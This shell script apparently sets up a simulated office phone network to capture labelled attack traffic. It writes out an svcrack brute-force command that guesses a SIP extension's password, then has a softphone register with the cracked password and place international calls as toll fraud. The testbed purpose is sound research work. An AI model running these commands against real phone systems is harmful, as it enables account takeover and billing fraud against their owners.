# Somebody guesses the password of an account with svcrack; another host uses it with an ordinary
# softphone, registers and calls external numbers by hand.
EXTENSIONS=(601 602 603 604 605 606 607 608)
EXISTING='^6[0-1][0-9]$'
WEAK=603
WEAK_PASSWORD=letmein1
open_office -A WITH_HARDENED
add_attacker cracker 198.51.100.199
add_attacker thief 203.0.113.55
start_office_capture
keep_alive 23
office_day 107 165
words >"$scratch/words"
at 8 attack A1 password_cracking cracker 5060 "svcrack tries words as passwords of 603 until one is right." \
    "$(version_of svcrack)" svcrack -b 198.51.100.199 -x 198.51.100.199 -P 5060 -t 0.2 -u 603 -d "$scratch/words" 192.0.2.1
set_up_softphone thief thief 603 60 letmein1
at 60 attack A2 toll_fraud thief 5060 "From another host a softphone registers as 603 and calls five numbers abroad." \
    "$(version_of baresip)" baresip -v -f "$scratch/thief"
second=66
for number in 0088216501 0088216502 0037250101 0088216503 0088216501; do
    at "$second" tell thief dial "sip:$number@example.org"
    at "$((second + 15))" tell thief hangup
    second=$((second + 18))
done
at 160 tell thief quit
echo "603 toll_fraud" >>"$scratch/users"
play
wait_for A1 A2
close_office
expect_said A1 letmein1
